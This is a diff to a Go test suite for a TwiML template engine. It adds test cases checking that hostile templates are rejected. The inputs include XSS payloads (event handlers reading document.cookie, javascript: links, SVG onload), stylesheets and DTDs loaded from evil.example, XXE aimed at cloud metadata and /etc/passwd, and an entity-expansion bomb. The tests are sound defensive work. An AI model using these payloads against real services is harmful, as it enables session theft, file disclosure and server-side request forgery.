@@ -29,6 +29,7 @@ const (
 	promiseLimits      = "Twilio's limits hold at render time: lenient repairs, strict fails"
 	promiseWellFormed  = "the output is one well-formed document with a <Response> root"
 	promiseTemplateXML = "the template is checked as XML 1.0 in UTF-8 before anything runs"
+	promiseBrowser     = "a bin opened in a browser runs no script and loads nothing: no namespace, event handler, xml:base or stylesheet"
 )
 
 // hostileCompileTests are templates written to escape the engine's rules.
@@ -56,6 +57,27 @@ var hostileCompileTests = []struct {
 	{"DOCTYPE with an external DTD", promiseNoFiles, `<!DOCTYPE Response SYSTEM "http://169.254.169.254/latest/meta-data/"><Response/>`, engine.CodeParseFailure, ""},
 	{"DOCTYPE with a parameter entity", promiseNoFiles, `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><Response/>`, engine.CodeParseFailure, ""},
 	{"XInclude", promiseNoFiles, `<Response xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></Response>`, engine.CodeElementNotAllowed, ""},
+
+	// A bin opened in a browser: served as XML on the service's origin, a
+	// template must not make it XHTML, SVG or a styled document.
+	{"XHTML namespace with an event handler", promiseBrowser, `<Response xmlns="http://www.w3.org/1999/xhtml"><Say autofocus="" onfocus="alert(document.cookie)">hi</Say></Response>`, engine.CodeNamespace, ""},
+	{"XHTML namespace on a verb", promiseBrowser, `<Response><Say xmlns="http://www.w3.org/1999/xhtml">hi</Say></Response>`, engine.CodeNamespace, ""},
+	{"TwiML namespace that is not TwiML's", promiseBrowser, `<Response xmlns="https://www.twilio.com/docs/api/twiml"><Hangup/></Response>`, engine.CodeNamespace, ""},
+	{"empty default namespace", promiseBrowser, `<Response xmlns=""><Say>{{x}}</Say></Response>`, "", ""},
+	{"event handler without a namespace", promiseBrowser, `<Response><Say autofocus="" onfocus="alert(1)">hi</Say></Response>`, engine.CodeEventHandler, ""},
+	{"event handler in upper case", promiseBrowser, `<Response><Hangup ONLOAD="alert(1)"/></Response>`, engine.CodeEventHandler, ""},
+	{"event handler with a value", promiseBrowser, `<Response><Play onerror="{{js}}">https://x.example/a.mp3</Play></Response>`, engine.CodeEventHandler, ""},
+	{"event handler on Amazon SSML", promiseBrowser, `<Response><Say voice="Polly.Joanna"><amazon:effect name="whispered" onmouseover="alert(1)">hi</amazon:effect></Say></Response>`, engine.CodeEventHandler, ""},
+	{"amazon prefix bound to XHTML", promiseBrowser, `<Response><Say voice="Polly.Joanna"><amazon:script xmlns:amazon="http://www.w3.org/1999/xhtml">alert(1)</amazon:script></Say></Response>`, engine.CodeNamespace, ""},
+	{"amazon prefix declared on the root", promiseBrowser, `<Response xmlns:amazon="https://amazon.example/ssml"><Say voice="Polly.Joanna"><amazon:effect name="whispered">hi</amazon:effect></Say></Response>`, engine.CodeNamespace, ""},
+	{"SVG element with onload", promiseBrowser, `<Response><Say><svg:svg xmlns:svg="http://www.w3.org/2000/svg" onload="alert(1)"/>hi</Say></Response>`, engine.CodeNamespace, ""},
+	{"xml-stylesheet before the root", promiseBrowser, `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><Response><Hangup/></Response>`, engine.CodeProcessingInstr, ""},
+	{"xml-stylesheet inside the root", promiseBrowser, `<Response><?xml-stylesheet href="https://evil.example/x.css"?><Hangup/></Response>`, engine.CodeProcessingInstr, ""},
+	{"other processing instruction", promiseBrowser, `<Response><?php echo 1; ?><Hangup/></Response>`, engine.CodeProcessingInstr, ""},
+	{"xml:base", promiseBrowser, `<Response xml:base="https://evil.example/"><Redirect>next</Redirect></Response>`, engine.CodeNamespace, ""},
+	{"xlink:href", promiseBrowser, `<Response><Redirect xlink:href="javascript:alert(1)">https://x.example/</Redirect></Response>`, engine.CodeNamespace, ""},
+	{"attribute of another prefix", promiseBrowser, `<Response><Say html:style="x">hi</Say></Response>`, engine.CodeNamespace, ""},
+	{"xml:lang on lang", promiseBrowser, `<Response><Say><lang xml:lang="fr-FR">{{x}}</lang></Say></Response>`, "", ""},
 
 	// Entities.
 	{"billion laughs", promiseNoDTD, `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><Response><Say>&c;</Say></Response>`, engine.CodeParseFailure, ""},
@@ -515,5 +537,36 @@ func TestHostileRenderMemoryIsBounded(t *testing.T) {
 				t.Errorf("%s: two renders allocated %d MB; want at most %d MB whatever the values", tc.promise, got>>20, bound>>20)
 			}
 		})
+	}
+}
+
+// TestHostileBrowserMarkupDiagnostics guards promiseBrowser's diagnostics:
+// each is an error at the line and column of what to remove, and says so.
+func TestHostileBrowserMarkupDiagnostics(t *testing.T) {
+	src := `<?xml version="1.0" encoding="UTF-8"?>
+<?xml-stylesheet href="https://evil.example/x.xsl"?>
+<Response xmlns="http://www.w3.org/1999/xhtml">
+  <Say autofocus="" onfocus="alert(1)">hi</Say>
+  <Redirect xml:base="https://evil.example/">next</Redirect>
+</Response>`
+	want := []struct {
+		code      engine.Code
+		line, col int
+		says      string
+	}{
+		{engine.CodeProcessingInstr, 2, 1, "remove <?xml-stylesheet"},
+		{engine.CodeNamespace, 3, 11, "remove xmlns"},
+		{engine.CodeEventHandler, 4, 21, "remove onfocus"},
+		{engine.CodeNamespace, 5, 13, "remove xml:base"},
+	}
+	errs := engine.Check(src).Errors()
+	if len(errs) != len(want) {
+		t.Fatalf("%s: %d errors, want %d:%s", promiseBrowser, len(errs), len(want), listDiagnostics(errs))
+	}
+	for i, w := range want {
+		d := errs[i]
+		if d.Code != w.code || d.Line != w.line || d.Column != w.col || !strings.Contains(d.Message, w.says) {
+			t.Errorf("%s: error %d is %v; want %s at %d:%d saying %q", promiseBrowser, i, d, w.code, w.line, w.col, w.says)
+		}
 	}
 }
